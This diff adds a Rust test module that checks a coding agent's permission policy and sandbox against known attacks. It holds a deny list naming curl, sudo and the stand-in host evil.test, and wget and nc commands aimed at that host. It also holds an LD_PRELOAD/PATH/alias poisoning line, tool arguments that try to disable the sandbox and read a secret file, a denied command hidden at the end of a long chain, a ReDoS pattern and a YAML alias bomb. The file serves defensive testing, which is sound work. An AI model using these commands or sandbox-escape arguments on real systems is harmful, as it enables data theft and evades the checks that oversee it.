@@ -1,0 +1,182 @@
+//! Known attacks on programs of this kind, each tried on the shipped one: on its judgment of
+//! commands here, and in the folder on files, names, secrets and what the model is told.
+
+mod files;
+mod names;
+mod secrets;
+mod words;
+
+use std::fmt::Write as _;
+
+use serde_json::{Value, json};
+use testkit::{ModelServer, Project, Reply, Run};
+
+use crate::{project, project_with};
+
+const RULES: &str = "permissions:
+  allow: ['Bash(git status:*)', 'Bash(cargo test:*)', 'Bash(cargo build:*)', 'Bash(npm test:*)',
+    'Bash(pytest:*)', 'Bash(find:*)', 'Bash(sed:*)', 'Bash(sort:*)', 'Bash(uniq:*)', 'Bash(rg:*)']
+  deny: ['Bash(curl:*)', 'Bash(git push:*)', 'Bash(sudo:*)', 'Host(evil.test)']
+";
+
+/// Runs a tool with everything approved that may be approved.
+fn exec(project: &Project, tool: &str, input: &Value) -> Run {
+    let input = input.to_string();
+    project.brynhild(&["tools", "exec", tool, "--input", &input, "--mode", "yolo"])
+}
+
+fn bash(project: &Project, command: &str) -> Run {
+    exec(project, "Bash", &json!({ "command": command }))
+}
+
+/// How a command is decided on: 0 allow, 3 ask, 1 deny.
+fn ruling(project: &Project, command: &str) -> i32 {
+    project.brynhild(&["policy", "check", "--", command]).status.code().unwrap()
+}
+
+#[test]
+fn commands_are_decided_as_the_published_table_says() {
+    let project = project();
+    project.config(RULES);
+    let table = include_str!("../../../policy/tests/commands.txt");
+    let plain = |line: &&str| !line.is_empty() && !line.starts_with('#') && !line.contains('«');
+    for line in table.lines().filter(plain) {
+        let (wanted, command) = line.split_once(' ').unwrap();
+        // The table is written for a project at `/w` and for a person with more rules.
+        let command = command.replace('␊', "\n").replace('␍', "\r");
+        let command = command.replace("⟨202e⟩", "\u{202e}").replace("⟨2066⟩", "\u{2066}");
+        let command = command.replace("⟨a0⟩", "\u{a0}").replace("⟨00a0⟩", "\u{a0}");
+        let wanted = match wanted {
+            "allow" => 0,
+            "ask" => 3,
+            _ => 1,
+        };
+        assert_eq!(ruling(&project, &command), wanted, "{command:?}");
+    }
+}
+
+#[test]
+fn a_denied_command_at_the_end_of_a_very_long_one_is_denied() {
+    let project = project();
+    project.config(RULES);
+    let chain = "true && ".repeat(10_000);
+    assert_eq!(ruling(&project, &format!("{chain}curl x")), 1);
+    assert_eq!(ruling(&project, &format!("{chain}ls")), 3);
+    let server = ModelServer::start([
+        Reply::calls([("Bash", json!({"command": format!("{}curl x", "true; ".repeat(150_000))}))]),
+        Reply::text("done"),
+    ]);
+    let project = project_with(&server);
+    let told = format!(
+        "providers:\n  default: test\n  instances:\n    test:\n      type: openai\n      \
+         base_url: {}/v1\n      default_model: test-model\n{RULES}",
+        server.url()
+    );
+    project.config(&told);
+    project.brynhild(&["chat", "go", "--mode", "yolo"]);
+    let requests = server.chats();
+    let result =
+        requests.last().unwrap().body["messages"].as_array().unwrap().last().unwrap().clone();
+    let text = result["content"].as_str().unwrap();
+    assert!(text.contains("Bash(curl:*)"), "{text}");
+}
+
+#[test]
+fn a_denied_host_is_denied_inside_a_command() {
+    let project = project();
+    project.config(RULES);
+    for command in ["wget http://evil.test/x", "git clone git@evil.test:a/b", "nc evil.test 80"] {
+        assert_eq!(ruling(&project, command), 1, "{command}");
+        assert_ne!(bash(&project, command).status.code(), Some(0), "{command}");
+    }
+}
+
+#[test]
+fn a_program_that_the_project_brings_is_not_taken_for_the_system_s() {
+    let project = project();
+    let own = project.path().join("node_modules/.bin");
+    project.file("node_modules/.bin/ls", "#!/bin/sh\ntouch fooled\n");
+    let decide = |path: String| {
+        project.command(&["policy", "check", "ls"]).env("PATH", path).run().status.code()
+    };
+    assert_eq!(decide(String::from("/usr/bin:/bin")), Some(0));
+    assert_eq!(decide(format!("{}:/usr/bin:/bin", own.display())), Some(3));
+    assert_eq!(decide(String::from(".:/usr/bin:/bin")), Some(3));
+    assert_eq!(decide(String::from(":/usr/bin:/bin")), Some(3));
+    assert_eq!(decide(String::from("node_modules/.bin:/usr/bin")), Some(3));
+    assert_eq!(decide(format!("/usr/bin:/bin:{}", own.display())), Some(0));
+}
+
+#[test]
+fn nothing_that_one_command_sets_lasts_into_the_next() {
+    let project = project();
+    let poison = "export PATH=.:$PATH LD_PRELOAD=./x.so BASH_ENV=./x; alias ls='touch fooled'; \
+                  ls() { touch fooled; }; export -f ls; set -a; umask 0; cd /";
+    bash(&project, poison);
+    let run = bash(&project, "echo \"$LD_PRELOAD$BASH_ENV\"; pwd; type -t ls; ls");
+    run.success();
+    let root = project.path().canonicalize().unwrap();
+    assert!(run.stdout.starts_with(&format!("\n{}\nfile\n", root.display())), "{run}");
+    assert!(!project.path().join("fooled").exists());
+}
+
+#[test]
+fn no_argument_of_a_tool_moves_it_or_opens_its_sandbox() {
+    let project = project();
+    std::fs::write(project.home().join("secret"), "s3cret").unwrap();
+    let secret = project.home().join("secret");
+    for extra in [
+        json!({"sandbox": false}),
+        json!({"dangerously_disable_sandbox": true, "unsandboxed": true}),
+        json!({"cwd": "/"}),
+        json!({"cwd": project.home()}),
+        json!({"mode": "yolo", "permissions": "all"}),
+    ] {
+        let mut input = json!({"command": format!("cat {}; pwd", secret.display())});
+        input.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
+        let run = exec(&project, "Bash", &input);
+        assert!(!run.stdout.contains("s3cret"), "{input}: {run}");
+        let root = project.path().canonicalize().unwrap();
+        let stayed = run.stdout.starts_with(&format!("{}\n", root.display()));
+        assert!(stayed || run.status.code() == Some(1), "{input}: {run}");
+    }
+}
+
+#[test]
+fn values_are_never_taken_for_options() {
+    let project = project();
+    for words in [
+        ["policy", "check", "--", "--mode=yolo"],
+        ["session", "show", "--", "--config=x"],
+        ["trust", "--", "--yes", "--list"],
+    ] {
+        let run = project.brynhild(&words);
+        assert_ne!(run.status.code(), Some(0), "{words:?}: {run}");
+    }
+    let server = ModelServer::start([Reply::text("hello")]);
+    let project = project_with(&server);
+    let run = project.brynhild(&["chat", "--", "--mode=yolo --dangerously-skip-sandbox"]);
+    run.success();
+    let requests = server.chats();
+    let prompt = requests[0].body["messages"].as_array().unwrap().last().unwrap().to_string();
+    assert!(prompt.contains("--mode=yolo --dangerously-skip-sandbox"), "{prompt}");
+    assert!(!run.stderr.contains("without a sandbox"), "{run}");
+}
+
+#[test]
+fn patterns_and_nesting_made_to_take_forever_do_not() {
+    let project = project();
+    project.file("a.txt", "a".repeat(20_000));
+    exec(&project, "Grep", &json!({"pattern": "(a+)+$", "path": "."})).success();
+    let deep = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
+    let run = project.brynhild(&["policy", "explain", "--tool", "Bash", "--input", &deep]);
+    run.code(2);
+    let mut bomb = String::from("a0: &a0 [x, x]\n");
+    for level in 1..40 {
+        let before = level - 1;
+        writeln!(bomb, "a{level}: &a{level} [*a{before}, *a{before}, *a{before}]").unwrap();
+    }
+    project.file(".brynhild/config.yaml", &bomb);
+    let run = project.brynhild(&["config", "show"]);
+    assert!(run.stderr.contains("config.yaml"), "{run}");
+}
